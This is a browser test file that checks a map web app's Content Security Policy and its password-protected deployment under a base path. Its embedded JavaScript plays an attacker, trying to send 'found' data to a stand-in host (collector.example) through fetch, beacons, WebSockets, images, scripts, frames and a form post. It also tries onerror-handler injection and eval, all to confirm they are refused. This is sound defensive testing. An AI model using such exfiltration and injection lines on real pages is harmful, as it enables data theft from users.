"""The gate as a browser sees it: what the policies keep from happening, and the explorer below a path behind a password."""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path

import pytest
from playwright.sync_api import Frame, Page, expect

from tests.browser.conftest import Opens
from tests.browser.harness import Server, serving

SENDING = {"connect-src", "form-action", "img-src", "script-src-elem", "style-src-elem", "frame-src", "object-src", "base-uri"}

TRIES = """sending => { setTimeout(async () => {
  const refused = new Set();
  document.addEventListener("securitypolicyviolation", (event) => refused.add(event.effectiveDirective));
  const add = (name, fields) => document.body.appendChild(Object.assign(document.createElement(name), fields));
  window.tumenRan = [];
  await fetch("https://collector.example/?found").catch(() => {});
  navigator.sendBeacon("https://collector.example/", "found");
  try { new WebSocket("wss://collector.example/"); } catch { /* refused at once */ }
  add("img", { src: "https://collector.example/found.png" });
  add("script", { src: "https://collector.example/more.js" });
  add("link", { rel: "stylesheet", href: "https://collector.example/more.css" });
  add("iframe", { src: "https://collector.example/" });
  add("object", { data: "https://collector.example/" });
  add("base", { href: "https://collector.example/" });
  add("script", { textContent: "window.tumenRan.push('inline')" });
  add("div", { innerHTML: "<img src='x:' onerror=\\"window.tumenRan.push('handler')\\">" });
  try { window.eval("window.tumenRan.push('eval')"); } catch { /* refused at once */ }
  add("iframe", { name: "sink" });
  const form = add("form", { method: "post", action: "https://collector.example/", target: "sink" });
  form.submit();
  const pause = (ms) => new Promise((done) => setTimeout(done, ms)), until = performance.now() + 10000;
  while (!sending.every((name) => refused.has(name)) && performance.now() < until) await pause(50);
  await pause(300);
  window.tumenFound = { refused: [...refused], ran: window.tumenRan };
}, 0); }"""
"""Everything that a script could try to tell what it has found, or to get more; what was refused, and what ran.

It runs by a timer of the page, since the policy does not hold for what the browser is told to evaluate. What it waits for is
that each way of sending was refused; a busy browser tells of a form late.
"""


def tried(where: Page | Frame) -> tuple[set[str], set[str]]:
    where.evaluate(TRIES, sorted(SENDING))
    found = where.evaluate(
        "new Promise(done => { const look = () => window.tumenFound ? done(window.tumenFound) : setTimeout(look, 50); look(); })"
    )
    return set(found["refused"]), set(found["ran"])


def test_neither_page_nor_map_can_send_what_a_script_finds(new_reader: Opens) -> None:
    """Were a script to run in spite of all: it tells nobody, and in the page it does not even run."""
    reader = new_reader(quiet=False).open()
    refused, ran = tried(reader.frame)
    assert refused >= SENDING, "the frame of the map, where streamlit-folium needs scripts of its own"
    assert ran >= {"inline", "eval"}, "what it needs has to work"
    refused, ran = tried(reader.page)
    assert refused >= SENDING | {"script-src-attr"}
    assert ran == set()


@pytest.fixture(scope="module")
def private_server(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Server]:
    """Below a path, and behind a password."""
    password = tmp_path_factory.mktemp("private") / "password"
    password.write_text("correct horse", encoding="utf-8")
    password.chmod(0o600)
    with serving("--base-path", "/maps", "--password-file", str(password)) as running:
        assert running.address.endswith("/maps/")
        running.address = running.address.removesuffix("/")
        yield running
        assert "Traceback" not in running.log, running.log


FIRST_SHEET_MS = 90_000
"""The process that draws sheets begins with the first, and lets everything else on the machine go first."""


@pytest.mark.grid
def test_below_a_path_behind_a_password(new_reader: Opens, private_server: Server, tmp_path: Path) -> None:
    """Page, map, frame, links and uploads work there as ever, once the password is given."""
    reader = new_reader(at=private_server)
    reader.page.goto(f"{private_server.address}/?v=1&stance=denied", wait_until="load")
    reader.page.get_by_label("Password").fill("correct horse")
    reader.page.get_by_role("button", name="Come in").click()
    reader.wait_ready()
    assert reader.query_values() == {"v": "1", "stance": "denied"}
    reader.drag(100, -40)
    reader.wait_query("lon=")
    reader.watch.leaving()
    reader.page.get_by_test_id("stTopNavLink").filter(has_text="Brief").click()
    link = reader.page.get_by_test_id("stCode").filter(has_text=f"{private_server.address}/brief?v=1&lon=")
    expect(link).to_be_visible()
    expect(reader.page.get_by_test_id("stImage").locator("img")).to_be_visible(timeout=FIRST_SHEET_MS)
    story = tmp_path / "story.toml"
    story.write_text('id = "mine"\n', encoding="utf-8")
    reader.page.get_by_test_id("stTopNavLink").filter(has_text="Scenarios").click()
    reader.page.get_by_role("button", name="Write a story").click()
    reader.page.get_by_text("Open a story", exact=True).click()
    reader.page.locator("input[type=file]").set_input_files(story)
    expect(reader.page.get_by_text("Your draft is as it was.")).to_be_visible()
    own = (private_server.address, private_server.address.replace("http", "ws"), "data:", "blob:")
    assert [url for url in reader.watch.requests if not url.startswith(own)] == []
